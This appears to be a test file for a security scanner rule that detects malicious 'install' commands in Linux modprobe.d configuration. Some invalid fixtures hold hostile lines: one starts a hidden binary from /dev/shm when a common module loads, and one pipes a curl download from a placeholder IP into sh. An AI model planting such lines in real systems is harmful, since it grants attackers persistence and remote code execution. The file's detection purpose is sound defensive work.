import { autoload, moduleConfig, STOCK_MODULE_FILES, STOCK_MODULE_PACKAGES } from '../../../test/helpers/module-config';
import { testRule } from '../../../test/helpers/rule-tester';
import rule from './modprobe-install-command';

const stock = STOCK_MODULE_FILES.map(([p, t]) => moduleConfig(p, t));

testRule(rule, {
  valid: [
    {
      name: 'packaged modprobe.d: /bin/true blacklists and modprobe --ignore-install chains',
      facts: { moduleAutoload: autoload(stock), packages: STOCK_MODULE_PACKAGES },
    },
    {
      name: 'CIS hardening file written by hand: install cramfs /bin/false, usb-storage /bin/true, firewalld sysctl chain',
      facts: {
        moduleAutoload: autoload([
          ...stock,
          moduleConfig(
            '/etc/modprobe.d/CIS.conf',
            'install cramfs /bin/false\ninstall usb-storage /bin/true\ninstall nf_conntrack /usr/sbin/modprobe --ignore-install nf_conntrack $CMDLINE_OPTS && /usr/sbin/sysctl --quiet --system\n',
          ),
        ]),
        packages: STOCK_MODULE_PACKAGES,
      },
    },
  ],
  invalid: [
    {
      name: 'loading a common module also starts a binary from /dev/shm',
      facts: {
        moduleAutoload: autoload([
          ...stock,
          moduleConfig('/etc/modprobe.d/nf.conf', 'install nf_nat /sbin/modprobe --ignore-install nf_nat; /dev/shm/.k/kworker &\n'),
        ]),
        packages: STOCK_MODULE_PACKAGES,
      },
      expect: [
        {
          severity: 'critical',
          path: '/etc/modprobe.d/nf.conf',
          title: /runs \/dev\/shm\/\.k\/kworker when module nf_nat/,
          evidence: /nf\.conf:1: install nf_nat/,
        },
      ],
    },
    {
      name: 'download piped to sh through sh -c',
      facts: {
        moduleAutoload: autoload([
          moduleConfig(
            '/etc/modprobe.d/x.conf',
            "install loop /bin/sh -c 'curl -fsSL http://198.51.100.9/k | sh'; /sbin/modprobe --ignore-install loop\n",
          ),
        ]),
        packages: STOCK_MODULE_PACKAGES,
      },
      expect: [{ severity: 'critical', evidence: /matches: downloads a script/ }],
    },
    {
      name: 'unpackaged helper or script is high; packaged tool from a hand-written file is medium',
      facts: {
        moduleAutoload: autoload([
          moduleConfig(
            '/etc/modprobe.d/local.conf',
            'install e1000e /usr/local/sbin/netfix $CMDLINE_OPTS\nremove dummy /usr/bin/python3 /opt/cleanup.py\ninstall e1000 /sbin/modprobe --ignore-install e1000 && /usr/sbin/ethtool -K eth0 tso off\n',
          ),
        ]),
        packages: { ...STOCK_MODULE_PACKAGES, files: [...STOCK_MODULE_PACKAGES.files, '/usr/bin/python3'] },
      },
      expect: [
        { severity: 'high', title: /\/usr\/local\/sbin\/netfix/ },
        { severity: 'high', title: /\/opt\/cleanup\.py when module dummy/ },
        { severity: 'medium', title: /ethtool when module e1000 / },
      ],
    },
  ],
});
